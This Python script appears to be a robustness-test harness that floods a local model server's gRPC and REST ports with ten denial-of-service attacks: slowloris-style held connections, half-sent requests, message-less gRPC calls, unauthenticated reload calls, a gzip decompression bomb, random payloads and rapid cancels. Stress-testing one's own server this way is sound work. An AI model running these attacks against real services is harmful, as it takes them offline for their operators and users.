"""Attacks a server until it is killed: python attacker.py KIND GRPC_PORT REST_PORT."""

from __future__ import annotations

import contextlib
import gzip
import http.client
import itertools
import random
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator

import grpc

PREDICT = "/tensorflow.serving.PredictionService/Predict"
RELOAD = "/tensorflow.serving.ModelService/HandleReloadConfigRequest"
CHECK = "/grpc.health.v1.Health/Check"
POST = b"POST /v1/models/scorer:predict HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n"


def hold(port: int, sent: bytes, count: int) -> None:
    """Keeps `count` connections open that have only sent `sent`."""
    held: list[socket.socket] = []
    for _ in itertools.count():
        with contextlib.suppress(OSError):
            one = socket.create_connection(("127.0.0.1", port), timeout=2)
            one.sendall(sent)
            held.append(one)
        if len(held) > count:
            held.pop(0).close()
        time.sleep(0.002)


def calls(port: int, method: str, count: int) -> None:
    """Keeps `count` calls open that send no message."""
    ends = threading.Event()

    def nothing() -> Iterator[bytes]:
        ends.wait()
        yield b""

    channels = [
        grpc.insecure_channel(f"127.0.0.1:{port}", [("grpc.use_local_subchannel_pool", 1)])
        for _ in range(10)
    ]
    held: list[grpc.Future] = []
    for number in itertools.count():
        held.append(channels[number % 10].stream_unary(method).future(nothing()))
        if len(held) > count:
            held.pop(0).cancel()
        time.sleep(0.005)


def posts(port: int, body: Callable[[], bytes], head: dict[str, str]) -> None:
    while True:
        with contextlib.suppress(OSError, http.client.HTTPException):
            connection = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
            for _ in range(50):
                connection.request("POST", "/v1/models/scorer:predict", body(), head)
                connection.getresponse().read()
                time.sleep(0.02)


def nonsense(port: int, method: str) -> None:
    with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
        ask = channel.unary_unary(method)
        while True:
            with contextlib.suppress(grpc.RpcError):
                ask(random.randbytes(random.randrange(200)), timeout=5)
            time.sleep(0.01)


def cancels(port: int) -> None:
    with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
        ask = channel.unary_unary(PREDICT)
        while True:
            call = ask.future(random.randbytes(100_000), timeout=5)
            time.sleep(random.random() * 0.01)
            call.cancel()


def main(kind: str, by_grpc: int, by_rest: int) -> None:
    bomb = gzip.compress(b" " * (64 << 20))
    attacks: dict[str, Callable[[], None]] = {
        "idle connections": lambda: hold(by_rest, b"", 400),
        "half heads": lambda: hold(by_rest, POST[:30], 400),
        "half bodies": lambda: hold(by_rest, POST + b"{", 400),
        "calls without message": lambda: calls(by_grpc, PREDICT, 200),
        "without token": lambda: calls(by_grpc, RELOAD, 200),
        "health checks": lambda: calls(by_grpc, CHECK, 200),
        "bombs": lambda: posts(by_rest, lambda: bomb, {"Content-Encoding": "gzip"}),
        "nonsense by rest": lambda: posts(by_rest, lambda: random.randbytes(300), {}),
        "nonsense by grpc": lambda: nonsense(by_grpc, PREDICT),
        "streams and cancels": lambda: cancels(by_grpc),
    }
    attacks[kind]()


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
